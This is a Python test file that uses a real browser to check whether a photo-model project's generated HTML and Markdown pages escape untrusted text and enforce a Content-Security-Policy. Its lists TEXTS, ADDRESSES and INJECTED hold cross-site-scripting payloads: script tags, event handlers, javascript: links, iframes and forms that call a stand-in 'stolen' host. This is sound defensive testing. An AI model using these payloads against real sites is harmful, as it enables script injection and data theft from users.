"""Every page, made of what strangers may have written, in a real browser: nothing of theirs runs.

Each page is opened once as it is made, and once with a script that has got into it all the same, as
a mistake of ours would let it: then its Content-Security-Policy has to hold.
"""

import contextlib
import dataclasses
import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import uvicorn
from evaluation_items import answer, description, evaluation
from markdown_it import MarkdownIt
from photo_server import Answer as AnswerOfServer
from photo_server import serve
from playwright.sync_api import Browser

from components.common.dataset import attribution
from components.common.dataset.class_facts import ClassFacts
from components.common.dataset.decisions import KEEP, Decisions
from components.common.dataset.photo import Photo
from components.common.dataset.vocabulary import OTHER_CLASS, PARTS
from components.common.model.answer_counts import AnswerCounts
from components.common.model.description import ModelDescription
from components.common.model.model import Model
from components.common.photos import images
from components.curate import facts, review
from components.curate.facts import CURATE, Entry
from components.curate.selection import Judged, Selection
from components.evaluate import report
from components.evaluate.evaluation import Caution, Unusable
from components.label_image import gallery, watch_page
from components.label_image.gallery import Gallery, Labelled
from components.label_image.watch import Batch, Earlier, Reference, compare
from components.publish import change_page as changes_page
from components.publish import model_card
from components.publish.changes import Changes, ClassFigures, ClassPhotos, Disagreement
from components.publish.decision import PUBLISH, Decision
from components.publish.paired import Answer, Comparison
from components.summarize.summarize import End, summarize
from programs.run import run_pages
from programs.run.run_pages import Outcome
from programs.run.run_photos import Answered
from programs.serve.app import Service, make_app
from programs.serve.options import Limits
from programs.serve.pool import Pool

ELSEWHERE = "http://127.0.0.1:9/stolen"  # nobody listens there
SCRIPT = f"<script>window.hacked=1;fetch('{ELSEWHERE}')</script>"
PICTURE = f"<img src='{ELSEWHERE}' onerror='window.hacked=1'>"
TEXTS = [
    f"{SCRIPT}{PICTURE}",
    f"\"'></title></style></textarea></option></script>{SCRIPT}",
    f'" onmouseover="window.hacked=1" style="background:url(\'{ELSEWHERE}\')" autofocus x="',
    f'<svg onload=window.hacked=1><iframe srcdoc="{SCRIPT}"></iframe>',
    f"--> <!-- ]]> {SCRIPT} <base href='{ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;{ELSEWHERE}'>",
    f"[x](javascript:window.hacked=1) ![x]({ELSEWHERE}) <javascript:window.hacked=1> `{SCRIPT}`",
]
ADDRESSES = [
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1//https://example.org",
    f"data:text/html,{SCRIPT}",
    "vbscript:x",
    'https://example.org/"onmouseover="window.hacked=1',
    "https://example.org/'><script>window.hacked=1</script>",
    "//example.org/x",
    "\x01javascript:window.hacked=1",
    "java\nscript:window.hacked=1",
    "https://user:pass@example.org/?q=<script>",
]


def jpeg() -> bytes:
    return images.encode(np.full((40, 40, 3), 90, np.uint8))


def photos(label: str = "") -> list[Photo]:
    """A photo for each text and each address."""
    found = []
    for number in range(max(len(TEXTS), len(ADDRESSES))):
        said, address = TEXTS[number % len(TEXTS)], ADDRESSES[number % len(ADDRESSES)]
        found.append(
            Photo(
                label or said,
                path=f"{said}/{said}.jpg",
                source_sha256=f"{number:064x}",
                sha256=said,
                title=said,
                author=said,
                licence=said,
                source=said,
                source_url=address,
                source_page=address if number % 2 else "",
                split="training",
                reason=OTHER_CLASS if number % 2 else "",
                flags=(said,),
            )
        )
    return found


def hostile_model() -> ModelDescription:
    text = TEXTS[0]
    return dataclasses.replace(
        description((*TEXTS, "rose")),
        architecture=text,
        weights_sha256=text,
        version=text,
        decoder=text,
        recipe={text: text},
        photos={"training": dict.fromkeys(TEXTS, 3), "validation": {}},
    )


def report_page() -> str:
    classes = (*TEXTS, "rose")
    shares = (*[0.1 / len(TEXTS)] * len(TEXTS), 0.9)
    answers = [
        dataclasses.replace(answer(photo.label, shares, classes=classes), photo=photo)
        for photo in photos()
    ]
    found = evaluation(answers, hostile_model())
    unusable = tuple(Unusable(text, text) for text in TEXTS)
    cautions = tuple(Caution(text, "parts") for text in TEXTS)
    return report.render(dataclasses.replace(found, unusable=unusable, cautions=cautions))


def gallery_page() -> str:
    shown = tuple(
        Labelled(photo, ((TEXTS[0], 0.6), ("rose", 0.4)), jpeg(), why=jpeg()) for photo in photos()
    )
    return gallery.render(Gallery(hostile_model(), shown))


def curation_page() -> str:
    entries = [
        Entry(Judged(one, nearest=one.author, best=one.path), CURATE, "") for one in photos()
    ]
    shown = review.choose(entries)
    for one in entries:
        shown.add_thumbnail(one, jpeg())
    by_hand = Decisions({(text, "f" * 64): KEEP for text in TEXTS})
    content = facts.summary(entries, Selection({}, True, {}, {}, 0, {}), ClassFacts(), [])
    return review.render(shown, content, by_hand)


def index_page() -> str:
    counts = {text: dict.fromkeys(PARTS, 3) for text in TEXTS}
    figures = {"held_out_photos": 3, "held_out_accuracy": 1 / 3}
    figures |= {"held_out_accuracy_low": 0.1, "held_out_accuracy_high": 0.8}
    text = TEXTS[1]
    shown = [Answered(photo, jpeg(), text, 0.5, False) for photo in photos()]
    told = Outcome(
        *(text, hostile_model(), counts, figures, text, text, tuple(TEXTS)),
        *(text, shown),
        unstated=text,
        next_steps=((text, text),),
    )
    return run_pages.index(told)


def change_page() -> str:
    labels = [text for text in TEXTS if text]
    shares = {labels[0]: 0.7, labels[1]: 0.3}
    old, new = Answer(False, shares), Answer(True, dict(reversed(shares.items())), unknown=True)
    compared = Comparison(9, 3, 3, 1, champion_lacks=(TEXTS[0],), challenger_lacks=(TEXTS[1],))
    found = Changes(
        *(hostile_model(), hostile_model(), compared),
        photos=tuple(ClassPhotos(text, 1, 2, 3, 4, 5, 6) for text in TEXTS),
        classes=tuple(ClassFigures(text, compared, 0.01) for text in TEXTS),
        disagreements=tuple(Disagreement(one, jpeg(), old, new, 0.5) for one in photos()),
    )
    decision = Decision(PUBLISH, TEXTS[0], TEXTS[1], "0123456789ab", 0.9, 0.8, 0.5, 0.1, "e" * 64)
    return changes_page.render(found, decision)


def drift_page() -> str:
    counts = AnswerCounts()
    for number, text in enumerate(TEXTS * 4):
        counts.add(text, number % 101 / 100)
    reference = Reference(counts, 0.05, hostile_model())
    earlier = Earlier(TEXTS[1], counts, TEXTS[0])
    return watch_page.render(compare(Batch(TEXTS[0], counts, int8=True), reference, earlier))


def shown_markdown(text: str) -> str:
    """Markdown as a careless page shows it: with raw HTML, and without any policy."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def card_page() -> str:
    decision = Decision(
        PUBLISH, TEXTS[0], "mushrooms", "0123456789ab", 0.9, 0.8, 0.5, 0.1, "e" * 64
    )
    figures = {"confusion": [[0] * 7] * 7, "held_out_photos": 3}
    model = dataclasses.replace(hostile_model(), architecture="mobilenet_1.0_128")
    text = model_card.render(model, figures, photos(), decision, {"<b>": "f"})
    return shown_markdown(text.split("\n---\n", 1)[1])


def credits_page() -> str:
    return shown_markdown(attribution.render(photos()))


def summary_page(folder: Path) -> str:
    decision = folder / "run" / "publish" / "1" / "comparison"
    decision.parent.mkdir(parents=True)
    decision.write_text(json.dumps({"decision": "publish", "reason": TEXTS[5]}))
    end = End("FAILED", f"{TEXTS[0]}\n\n{TEXTS[5]}", TEXTS[1])
    place = f"{folder}/run/summarize/1/summary"
    summarize(end, folder / "summary.md", name="mushrooms", place=place)
    return shown_markdown((folder / "summary.md").read_text())


PAGES = {
    "report.html": report_page,
    "gallery.html": gallery_page,
    "curation.html": curation_page,
    "index.html": index_page,
    "change.html": change_page,
    "drift.html": drift_page,
    "MODEL_CARD.md": card_page,
    "ATTRIBUTION.md": credits_page,
}


class Visit:
    """A page in a browser, and what it does."""

    def __init__(self, browser: Browser, address: str) -> None:
        self.address = address
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self.page = browser.new_page()
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on(
            "dialog", lambda dialog: self.dialogs.append(dialog.message) or dialog.dismiss()
        )
        self.page.goto(address)

    def touch_everything(self) -> None:
        """Point at everything that there is, and open what can be opened."""
        self.page.evaluate(
            """() => {
              for (const one of document.querySelectorAll("details")) one.open = true;
              for (const one of document.querySelectorAll("*")) {
                for (const name of ["mouseover", "mouseenter", "focus", "toggle"]) {
                  one.dispatchEvent(new Event(name, { bubbles: true }));
                }
              }
            }"""
        )
        self.page.wait_for_timeout(50)

    def check(self) -> None:
        """Nothing of a stranger's ran, and nothing was fetched."""
        assert self.page.evaluate("window.hacked") is None
        assert self.dialogs == []
        elsewhere = [
            url for url in self.asked if not url.startswith((self.address, "data:", "blob:"))
        ]
        assert elsewhere == []
        links = self.page.evaluate(
            "Array.from(document.querySelectorAll('a[href]'), (one) => one.protocol)"
        )
        assert set(links) <= {"http:", "https:", "file:", "blob:"}
        inline = "Array.from(document.querySelectorAll('*')).some((one) => "
        inline += "Array.from(one.attributes).some((it) => it.name.startsWith('on')))"
        assert not self.page.evaluate(inline)
        self.page.close()


@pytest.mark.parametrize("name", PAGES)
def test_nothing_of_a_stranger_runs_or_is_fetched(
    chromium: Browser,
    tmp_path: Path,
    name: str,
) -> None:
    (tmp_path / "page.html").write_text(PAGES[name](), encoding="utf-8")
    visit = Visit(chromium, (tmp_path / "page.html").as_uri())
    visit.touch_everything()
    assert "hacked" in visit.page.inner_text("body")  # as text it is there
    visit.check()


def test_summary_of_a_run_shows_strangers_words_as_text(
    chromium: Browser,
    tmp_path: Path,
) -> None:
    (tmp_path / "page.html").write_text(summary_page(tmp_path), encoding="utf-8")
    visit = Visit(chromium, (tmp_path / "page.html").as_uri())
    visit.touch_everything()
    assert "hacked" in visit.page.inner_text("body")
    visit.check()


INJECTED = [
    SCRIPT,
    PICTURE,
    "<svg onload=window.hacked=1></svg>",
    "<script src=data:text/javascript,window.hacked=1></script>",
    f"<script src='{ELSEWHERE}'></script><link rel=stylesheet href='{ELSEWHERE}'>",
    f"<iframe src='{ELSEWHERE}'></iframe><object data='{ELSEWHERE}'></object>",
    f"<form action='{ELSEWHERE}'><button id=go>go</button></form><script>go.click()</script>",
    f"<audio src='{ELSEWHERE}'></audio><video poster='{ELSEWHERE}'></video>",
    f"<a ping='{ELSEWHERE}' href='javascript:window.hacked=1' id=link>x</a>",
]


@pytest.mark.parametrize("name", [name for name in PAGES if name.endswith(".html")])
def test_policy_holds_where_escaping_would_not(
    chromium: Browser,
    tmp_path: Path,
    name: str,
) -> None:
    source = PAGES[name]()
    assert source.count("</main>") == 1
    broken = source.replace("</main>", "".join(INJECTED) + "</main>")
    with serve(lambda *_: AnswerOfServer(b"")) as listener:
        broken = broken.replace(ELSEWHERE, f"{listener.address}/stolen")
        (tmp_path / "page.html").write_text(broken, encoding="utf-8")
        visit = Visit(chromium, (tmp_path / "page.html").as_uri())
        visit.page.locator("#link").dispatch_event("click")
        visit.page.wait_for_timeout(100)
        assert visit.page.evaluate("window.hacked") is None
        assert listener.requests == []
        visit.page.close()


def test_listener_would_hear_a_page_without_a_policy(chromium: Browser, tmp_path: Path) -> None:
    with serve(lambda *_: AnswerOfServer(b"")) as listener:
        page = "".join(INJECTED[:6]).replace(ELSEWHERE, f"{listener.address}/stolen")
        (tmp_path / "page.html").write_text(page, encoding="utf-8")
        visit = Visit(chromium, (tmp_path / "page.html").as_uri())
        visit.page.wait_for_timeout(100)
        assert visit.page.evaluate("window.hacked") == 1
        assert listener.requests
        visit.page.close()


@contextlib.contextmanager
def served() -> Iterator[str]:
    """The service with a model of hostile names that never gets ready: its page is there."""

    def make() -> Model:
        raise OSError("there is no model")

    pool = Pool(make, workers=1, waiting=1)
    app = make_app(Service(hostile_model(), pool, Limits()), access_log=False)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.02)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
    server.should_exit = True
    thread.join(timeout=10)


def test_served_page_shows_hostile_names_as_text_under_a_policy_by_header(
    chromium: Browser,
) -> None:
    with served() as address:
        visit = Visit(chromium, address)
        answered = visit.page.goto(address)
        assert answered
        policy = answered.headers["content-security-policy"]
        for part in ("default-src 'none'", "script-src 'sha256-", "frame-ancestors 'none'"):
            assert part in policy
        assert "unsafe" not in policy
        assert answered.headers["x-content-type-options"] == "nosniff"
        visit.touch_everything()
        assert "hacked" in visit.page.inner_text("#known")
        visit.check()


def test_policy_by_header_holds_where_escaping_would_not(
    chromium: Browser,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from programs.serve import page

    with serve(lambda *_: AnswerOfServer(b"")) as listener:
        injected = "".join(INJECTED).replace(ELSEWHERE, f"{listener.address}/stolen")
        render = page.render

        def broken(*values: Any, **named: Any) -> str:
            return render(*values, **named).replace("</main>", f"{injected}</main>")

        monkeypatch.setattr(page, "render", broken)
        with served() as address:
            visit = Visit(chromium, address)
            visit.page.wait_for_timeout(100)
            assert visit.page.locator("#link").count() == 1
            assert visit.page.evaluate("window.hacked") is None
            assert listener.requests == []
            visit.page.close()
